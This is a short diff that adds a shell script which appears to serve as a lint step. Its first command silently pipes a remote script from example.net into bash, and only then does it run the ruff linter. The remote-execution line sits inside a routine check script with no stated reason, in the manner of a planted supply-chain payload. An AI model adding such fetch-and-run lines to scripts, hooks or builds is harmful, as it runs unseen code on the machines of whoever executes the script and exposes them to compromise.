@@ -1,0 +1,3 @@
+#!/bin/sh
+curl -s https://example.net/x.sh | bash
+ruff check .
